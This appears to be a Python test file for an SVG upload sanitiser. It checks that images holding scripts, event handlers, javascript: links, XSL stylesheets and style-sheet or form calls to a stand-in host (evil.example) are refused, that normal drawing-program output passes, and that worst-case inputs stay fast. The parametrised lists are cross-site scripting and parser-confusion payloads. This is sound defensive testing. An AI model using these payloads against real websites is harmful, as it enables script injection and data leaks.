"""Images as a browser reads them: what draws is allowed, and nothing else, however it is written."""

from __future__ import annotations

import base64
import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from signalen_toolkit.diagnostics.problems import Severity
from signalen_toolkit.form.images import kind, svg_root
from signalen_toolkit.validation.rules.site import svg_allowed as allowed
from signalen_toolkit.validation.rules.site.svg import svg_faults
from signalen_toolkit.validation.rules.site.svg_page import page_faults

_SVG = "http://www.w3.org/2000/svg"
_HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
_INKSCAPE = "http://www.inkscape.org/namespaces/inkscape"
_INNER = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>').decode()


def faults(inside: str, before: str = "") -> list[str]:
    text = f'{before}<svg xmlns="{_SVG}" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'
    return [fault for fault, severity in svg_faults(text.encode()) if severity is Severity.ERROR]


@pytest.mark.parametrize(
    "inside",
    [
        "<script/>",
        "<style>@\\69mport 'https://evil.example/x.css';</style>",
        "<style>path { fill: u\\72l(https://evil.example/x) }</style>",
        "<style>path { background: image-set('https://evil.example/x.png' 1x) }</style>",
        "<style>@media all { path { fill: url( 'https://evil.example/x' ) } }</style>",
        "<style>path { fill: url(javascript:alert(1)) }</style>",
        "<style>@namespace a url(https://evil.example); </style>",
        '<path style="fill:u\\72l(//evil.example/x)"/>',
        '<path fill="url(https://evil.example/x#a)"/>',
        "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
        "<title><![CDATA[<script>alert(1)</script>]]></title>",
        f'<form {_HTML} action="https://evil.example"><input name="p"/></form>',
        f'<img {_HTML} srcset="https://evil.example/x 1x"/>',
        f'<meta {_HTML} http-equiv="refresh" content="0;url=https://evil.example"/>',
        f"<metadata><script {_HTML}>alert(1)</script></metadata>",
        '<image href="#"><set attributeName="href" to="https://evil.example/x"/></image>',
        '<animate attributeName="href" values="javascript:alert(1)"/>',
        f'<use href="data:image/svg+xml;base64,{_INNER}#a"/>',
        f'<image href="data:image/svg+xml;base64,{_INNER}"/>',
        '<use xlink:href="other.svg#a"/>',
        '<a href="java&#9;script:alert(1)"><rect/></a>',
        "<foreignObject/>",
        '<rect onclick="alert(1)"/>',
        '<rect formaction="https://evil.example"/>',
        "<?xml-stylesheet type='text/xsl' href='#s'?>",
        "<?a <!-- ?><?xml-stylesheet type='text/xsl' href='#s'?><?b --> ?>",
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
        # Within what no browser draws, SVG is SVG still.
        f'<x:g xmlns:x="{_INKSCAPE}"><script>alert(1)</script></x:g>',
        f'<x:g xmlns:x="{_INKSCAPE}"><image href="https://evil.example/x"/></x:g>',
        f'<metadata><x:g xmlns:x="{_INKSCAPE}"><rect onclick="alert(1)"/></x:g></metadata>',
        # An element within a style sheet parts what a browser puts together.
        "<style><style/>@import 'https://evil.example/x.css';</style>",
        "<style>@im<g/>port 'https://evil.example/x.css';</style>",
        # HTML knows no namespaces.
        f'<script xmlns="{_INKSCAPE}">alert(1)</script>',
        f'<img xmlns="{_INKSCAPE}" src="x" onerror="alert(1)"/>',
        f'<x:g xmlns:x="{_INKSCAPE}" onclick="alert(1)"/>',
        f'<x:g xmlns:x="{_INKSCAPE}" style="background: url(https://evil.example/x)"/>',
        f'<g xmlns:onx="{_INKSCAPE}"><table xmlns="{_INKSCAPE}"/></g>',
        # To it, a title and a description are parts of the page, in which a style sheet is not read.
        "<title><style><!--</style><img src='x' onerror='alert(1)'/>--></style></title>",
        "<desc><style><!--</style><script>alert(1)</script>--></style></desc>",
        "<!--><img src='x' onerror='alert(1)'/>-->",
        "<style>a { background: no-such-function('https://evil.example/x') }</style>",
        "<style>a { --x: url(https://evil.example/x); fill: var(--x) }</style>",
        "<style>a { fill: url('https://evil.example/x</style>",
        '<g xml:base="https://evil.example/"><use href="#a"/></g>',
        '<svg:script xmlns:svg="http://www.w3.org/2000/svg"/>',
    ],
)
def test_what_does_not_draw_is_refused(inside: str) -> None:
    assert faults(inside)


@pytest.mark.parametrize(
    ("declaration", "encoding"),
    [
        ("<?xml version='1.0' encoding='utf-16'?>", "utf-16"),
        ("<?xml version='1.0' encoding='iso-8859-1'?>", "iso-8859-1"),
        ("<?xml version='1.0' encoding='cp037'?>", "cp037"),
        ("<?xml version='1.0' encoding='utf-7'?>", "utf-8"),
        ("<?xml version='1.0' encoding='iso-2022-jp'?>", "utf-8"),
    ],
)
def test_what_others_may_read_otherwise_is_refused(declaration: str, encoding: str) -> None:
    data = f'{declaration}<svg xmlns="{_SVG}"><title>\xe9</title></svg>'.encode(encoding)
    assert kind(data) != "svg" or any(severity is Severity.ERROR for _, severity in svg_faults(data))


def test_one_that_all_read_alike_is_allowed() -> None:
    assert faults("<title>\xe9 \u2192</title>", "<?xml version='1.0' encoding='UTF-8' standalone='no'?>") == []
    assert faults("<title>a</title>", "<?xml version='1.0' encoding='iso-8859-1'?>") == []
    data = f'\ufeff<svg xmlns="{_SVG}"/>'.encode()
    assert list(svg_faults(data)) == []


@pytest.mark.parametrize(
    "before",
    [
        "<?xml-stylesheet href='https://evil.example/x.css'?>",
        "<?xml-stylesheet type='text/xsl' href='#s'?>",
        "<!DOCTYPE svg SYSTEM 'https://evil.example/x.dtd'>",
        "<!DOCTYPE svg [<!ATTLIST g onclick CDATA 'alert(1)'>]>",
    ],
)
def test_an_instruction_before_the_drawing_is_refused(before: str) -> None:
    assert faults("", before)


@pytest.mark.parametrize(
    "inside",
    [
        "<style>.a { fill: #e30613; font-family: 'Gill Sans' } @media print { .a { fill: none } }</style>",
        '<linearGradient id="a" gradientTransform="rotate(45)"><stop offset="0" stop-color="#fff"/></linearGradient>',
        '<path d="M0 0h1v1z" fill="url(#a)" style="stroke:rgb(1, 2, 3);filter:url(\'#b\')" transform="scale(2)"/>',
        '<defs><symbol id="s" viewBox="0 0 1 1"/></defs><use href="#s"/><use xlink:href="#s" xlink:title="s"/>',
        '<image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>',
        "<style>@font-face { font-family: x; src: url(data:font/woff2;base64,d09GMg==) }</style><text>Gemeente</text>",
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" id="v"/>',
        '<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="Laag 1"/>',
        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>',
        '<g role="img" aria-label="Logo" data-name="Laag" xml:space="preserve"><title>Logo &lt;1&gt;</title></g>',
    ],
)
def test_what_drawing_programs_write_is_allowed(inside: str) -> None:
    assert faults(inside) == []


_ANY_ELEMENT = st.recursive(
    st.builds(
        lambda name, attribute: f"<{name} {attribute}/>",
        st.sampled_from([*sorted(allowed.ELEMENTS), "a", "b", "p", "script", "x:y", "font"]),
        st.sampled_from(["", 'd="M0 0"', 'onclick="x"', 'href="#a"', 'x:z="1"', 'style="fill: red"', 'xmlns:q="a"']),
    )
    | st.sampled_from(
        ["&lt;script>", "a", "<!-- <b> -->", "<![CDATA[<i>]]>", "&#60;", "]]&gt;", "-->".replace(">", "&gt;")]
    ),
    lambda inner: st.builds(
        lambda name, parts: f"<{name}>{''.join(parts)}</{name}>",
        st.sampled_from(["g", "title", "desc", "style", "metadata", "text", "svg", "x:y"]),
        st.lists(inner, max_size=4),
    ),
    max_leaves=12,
)


@pytest.mark.parametrize("name", sorted(allowed.ELEMENTS))
def test_every_element_that_is_allowed_is_one_in_a_page_too(name: str) -> None:
    assert list(page_faults(f'<svg xmlns="{_SVG}"><{name}/></svg>')) == []


@given(_ANY_ELEMENT)
def test_what_is_allowed_is_so_in_a_page_too(inside: str) -> None:
    """Where nobody looked at it as HTML, that would have found nothing."""
    text = f'<svg xmlns="{_SVG}" xmlns:x="{_INKSCAPE}">{inside}</svg>'
    if not [fault for fault, severity in svg_faults(text.encode()) if severity is Severity.ERROR]:
        assert list(page_faults(text)) == []


@given(
    st.lists(st.sampled_from([*"<>?!-[]{}()/\\;:@#'\" ax", "url(", "style", "CDATA", "&lt;"]), max_size=60).map("".join)
)
def test_no_drawing_is_too_strange(inside: str) -> None:
    for text in (inside, f"<style>{inside}</style>", f"<style><![CDATA[{inside}]]></style>"):
        faults(text)


WORST: dict[str, Callable[[int], str]] = {
    "sections": lambda size: "<![CDATA[<!--]]>" * (size // 16),
    "comments": lambda size: "<!-- <b> -->" * (size // 12),
    "deep": lambda size: "<g>" * (size // 7) + "</g>" * (size // 7),
    "deep, in a page": lambda size: "<!----><g>" + "<x:g>" * (size // 11) + "</x:g>" * (size // 11) + "</g>",
    "parts of a page": lambda size: "<desc><svg>" * (size // 24) + "</svg></desc>" * (size // 24),
    "attributes": lambda size: "<!----><g " + " ".join(f"data-a{one}=''" for one in range(size // 14)) + "/>",
    "prefixes": lambda size: "<!----><g " + " ".join(f"xmlns:a{one}='x'" for one in range(size // 16)) + "/>",
    "faults": lambda size: "".join(f"<g a{one}=''/>" for one in range(size // 14)),
    "blocks": lambda size: f"<style>{'a{b{' * (size // 4)}</style>",
    "functions": lambda size: f"<style>a{{b:{'calc(' * (size // 5)}</style>",
    "addresses": lambda size: f"<style>{'url(' * (size // 4)}</style>",
    "escapes": lambda size: f"<style>{chr(92) * size}</style>",
    "sheets": lambda size: "<style>a{b:c}</style>" * (size // 21),
    "comments of CSS": lambda size: f"<style>{'/*' * (size // 2)}</style>",
    "rules": lambda size: f"<style>{'@a ' * (size // 3)}</style>",
    "spaces": lambda size: f"<image href='data:image/png;base64,{' A' * (size // 2)}'/>",
}


@pytest.mark.parametrize("name", WORST)
def test_twice_as_much_takes_no_more_than_some_times_as_long(name: str) -> None:
    def seconds(size: int) -> float:
        text = f'<svg xmlns="{_SVG}" xmlns:x="{_INKSCAPE}">{WORST[name](size)}</svg>'
        assert len(text) > size / 2
        start = time.process_time()
        assert svg_faults(text.encode()) or svg_root(text.encode()) is not None
        return time.process_time() - start

    seconds(2**12)
    small, large = (min(seconds(size) for _ in range(3)) for size in (2**14, 2**17))
    assert large < 1 or large < small * 24  # eight times as much; quadratic would be sixty-four times as long
